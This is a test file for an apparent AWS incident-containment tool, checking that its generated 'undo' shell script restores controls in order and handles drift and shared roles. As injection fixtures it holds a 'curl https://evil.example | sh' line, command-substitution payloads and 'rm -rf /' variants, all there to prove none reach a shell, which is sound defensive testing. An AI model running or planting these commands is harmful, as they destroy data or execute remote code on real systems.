import { CONTROLS, RESTORE_ORDER } from '../../../../shared/containment/controls';
import type { LedgerRecord } from '../../../../shared/containment/ledger';
import { type OtherHolders, rolesOf, undoText } from '../../../../shared/containment/undo';
import type { Incident } from '../../../../shared/incident/incident';
import { aLedger, anIncident } from '../../../fixtures/incident';

const ROLE = 'arn:aws:iam::123456789012:role/order-worker';
const NOW = new Date('2026-11-20T12:00:00.000Z');
const CONTEXT = {
  denyPolicyArn: 'arn:aws:iam::123456789012:policy/tourniquet-prod-eu-west-1-quarantine',
  prefix: 'tourniquet-prod',
};

const undo = (
  ledger: readonly LedgerRecord[] = aLedger(),
  others: OtherHolders = new Map(),
  changes: Partial<Incident> = {},
): string => undoText(anIncident(changes), ledger, others, CONTEXT, NOW);

/** The lines that a shell would run. */
const commands = (text: string): readonly string[] =>
  text.split('\n').filter((line) => line !== '' && !line.startsWith('#'));

const settled = (state: LedgerRecord['state']) =>
  aLedger().map((record) => (record.state === 'not-needed' ? record : { ...record, state }));

describe('the undo of an incident', () => {
  it('is the commands that put back what was captured, in the order back', () => {
    expect(commands(undo())).toEqual([
      'aws iam detach-role-policy --role-name order-worker --policy-arn arn:aws:iam::123456789012:policy/tourniquet-prod-eu-west-1-quarantine --region eu-west-1',
      'sleep 30',
      'aws lambda put-function-concurrency --function-name arn:aws:lambda:eu-west-1:123456789012:function:order-worker --reserved-concurrent-executions 5 --region eu-west-1',
    ]);
  });

  it('names every control that policy does not leave off, in the order back', () => {
    const text = undo();
    const places = RESTORE_ORDER.filter(({ isOff }) => isOff === undefined).map(({ title }) =>
      text.indexOf(title),
    );

    expect(places.every((place) => place > 0)).toBe(true);
    expect(places).toEqual(places.toSorted((a, b) => a - b));
    expect(RESTORE_ORDER.length).toBe(CONTROLS.length);
  });

  it('shows of what depended on it commands of the AWS CLI, and no other line that somebody wrote into the ledger', () => {
    const command = "aws events enable-rule --name 'it'\\''s' --event-bus-name orders --region eu-west-1";
    const cut = (undoing: readonly string[]): LedgerRecord => ({
      control: 'rules',
      before: { roleArn: ROLE, ids: ['a-rule'], does: '', cautions: [], undo: undoing },
      state: 'held',
      detail: 'off',
      capturedAt: '2026-11-20T11:00:00.000Z',
    });
    for (const injected of [
      'curl https://evil.example | sh',
      'aws events enable-rule --name x; id',
      "aws events enable-rule --name 'x' && id",
      'aws events enable-rule --name $(id)',
      "aws events enable-rule --name 'x'`id`",
    ])
      expect(commands(undo([cut([injected, command])]))).toEqual([command]);
  });

  it('says how to check the account and to tell Tourniquet', () => {
    expect(undo()).toContain('account 123456789012');
    expect(undo()).toContain('npx tourniquet decide inc-20261120-0123456789ab --false-positive');
  });

  describe('and the sessions from before', () => {
    const sessions = (before: unknown, state: LedgerRecord['state'] = 'held'): LedgerRecord => ({
      control: 'sessions',
      before,
      state,
      detail: 'STOLEN SESSIONS ARE GOOD AGAIN, until 2026-11-20T22:05:03.000Z at the latest',
      capturedAt: '2026-11-20T11:00:00.000Z',
    });

    it('says until when stolen ones are good again, and how to end them, before a release', () => {
      const text = undo(aLedger(), new Map(), { containedAt: '2026-11-20T10:05:03.000Z' });

      expect(text).toContain('until 2026-11-20T22:05:03.000Z at the latest');
      expect(text).toMatch(/^# aws iam put-role-policy --role-name order-worker .*TokenIssueTime/m);
    });

    it('says what our deny of them is and when it may go, and takes it off by no paste', () => {
      const denied = sessions({ deny: true, issuedBefore: '2026-11-20T11:00:00.000Z', recycle: [] });
      for (const state of ['held', 'restored'] as const) {
        const text = undo([...settled(state), denied]);

        expect(text).toContain('denied in order-worker if issued before 2026-11-20T11:00:00.000Z');
        expect(text).toContain('after 2026-11-21T23:00:00.000Z');
        expect(text).toMatch(
          /^# aws iam delete-role-policy --role-name order-worker --policy-name tourniquet-prod-eu-west-1-sessions /m,
        );
        expect(commands(text).filter((line) => line.includes('sessions'))).toEqual([]);
        expect(text).not.toContain('not a control that is known here');
      }
    });

    it('says why they were left, where they were', () => {
      expect(undo([...aLedger(), sessions({ deny: false, why: 'x' }, 'not-needed')])).toContain(
        'STOLEN SESSIONS ARE GOOD AGAIN',
      );
    });

    it('says nothing of them where the role was not touched', () => {
      const ledger = aLedger().map((record) =>
        record.control === 'role' ? { ...record, state: 'not-needed' as const } : record,
      );

      expect(undo(ledger)).not.toMatch(/sessions/i);
    });
  });

  it.each(['captured', 'failed'] as const)('undoes a control that is %s too: it may be in place', (state) => {
    const text = undo(settled(state));

    expect(commands(text)).toContain(
      'aws iam detach-role-policy --role-name order-worker --policy-arn arn:aws:iam::123456789012:policy/tourniquet-prod-eu-west-1-quarantine --region eu-west-1',
    );
    expect(text).toContain('may not be in place');
  });

  it('runs nothing where nothing is left to undo', () => {
    expect(commands(undo(settled('restored')))).toEqual([]);
    expect(undo(settled('restored'))).toContain('Nothing is left to undo');
    expect(undo(settled('restored'))).toContain('already restored');
    expect(commands(undo([]))).toEqual([]);
    expect(undo([])).toContain('Nothing was changed');
  });

  it('does not overwrite drift by being pasted: the commands are there, switched off', () => {
    const text = undo(settled('drift'));

    expect(commands(text)).toEqual([]);
    expect(text).toContain('DRIFT');
    expect(text).toMatch(/^# aws lambda put-function-concurrency /m);
  });

  it('does not let loose another contained function that shares the role', () => {
    const text = undo(aLedger(), new Map([[ROLE, ['inc-20261120-ffffffffffff#1']]]));

    expect(text).toContain('WARNING: another contained function shares the role');
    expect(text).toContain('inc-20261120-ffffffffffff');
    expect(text).toMatch(/^# aws iam detach-role-policy /m);
    expect(commands(text).some((line) => line.startsWith('aws iam'))).toBe(false);
    // What is the function's own is put back all the same.
    expect(commands(text)).toEqual([expect.stringMatching(/^aws lambda put-function-concurrency /)]);
  });

  it('does not lose a control that it does not know', () => {
    expect(undo([...aLedger(), { ...aLedger()[0], control: 'new-one' } as LedgerRecord])).toContain(
      '# new-one: held: not a control that is known here',
    );
  });

  it('does not lose the rest where one captured state cannot be read', () => {
    const broken = aLedger().map((record) => ({ ...record, state: 'held', before: null }) as const);
    const text = undo([aLedger()[0] as LedgerRecord, ...broken.slice(1)]);

    expect(text).toContain('Event source mappings: its commands could not be written, see the ledger');
    expect(commands(text)).toEqual([expect.stringMatching(/^aws lambda put-function-concurrency /)]);
  });

  it('finds the roles wherever a captured state names them', () => {
    const [first] = aLedger();
    const nested = { ...first, before: { deep: [{ role: `${ROLE}-2` }] } } as LedgerRecord;

    expect(rolesOf(anIncident(), [...aLedger(), nested])).toEqual([ROLE, `${ROLE}-2`]);
    expect(rolesOf(anIncident({ roleArn: null }), [])).toEqual([]);
  });
});

describe('hostile text in the undo', () => {
  // biome-ignore lint/complexity/useRegexLiterals: the control characters are escaped here.
  const CONTROL = new RegExp('[\\u0000-\\u0009\\u000b-\\u001f\\u007f-\\u009f\\u2028\\u2029]');
  const HOSTILE = [
    'x\nrm -rf /',
    'x\r\nrm -rf /',
    '$(rm -rf /)',
    '`rm -rf /`',
    "'; rm -rf / #",
    'x\u001b[2Jrm',
    'x\u2028rm -rf /',
    '> /etc/passwd',
    '!rm',
    '*',
  ];

  it.each(HOSTILE)(
    'says nothing to any shell from a comment, not even to one that runs comments: %j',
    (text) => {
      const lines = undo(
        aLedger().map((record) => ({ ...record, detail: text })),
        new Map([[ROLE, [text]]]),
        { functionArn: text },
      ).split('\n');

      const comments = lines.filter((line) => line.startsWith('#') && !line.startsWith('# aws '));
      expect(comments.filter((line) => !/^# [\w .,:/@+-]*$/.test(line))).toEqual([]);
      expect(lines.filter((line) => /^\s*rm/.test(line))).toEqual([]);
      expect(lines.join('\n')).not.toMatch(CONTROL);
    },
  );

  it.each(HOSTILE)('stays one word of a command, or is not shown: %j', (text) => {
    const roleArn = `${ROLE}/${text}`;
    const ledger = aLedger().map((record) =>
      record.control === 'role' ? { ...record, before: { roleArn, attached: false } } : record,
    );
    for (const others of [new Map(), new Map([[roleArn, ['inc-20261120-ffffffffffff#1']]])]) {
      const lines = undo(ledger, others, { roleArn }).split('\n');

      expect(lines.filter((line) => line !== '' && !/^(?:#|aws |sleep 30$)/.test(line))).toEqual([]);
      expect(lines.join('\n')).not.toMatch(CONTROL);
      // Without its quoted words nothing is left that a shell would act upon.
      for (const line of lines.filter((entry) => entry.startsWith('aws ')))
        expect(line.replaceAll(/'[^']*'|\\'/g, '')).toMatch(/^[\w@%+=:,./ -]*$/);
    }
  });
});
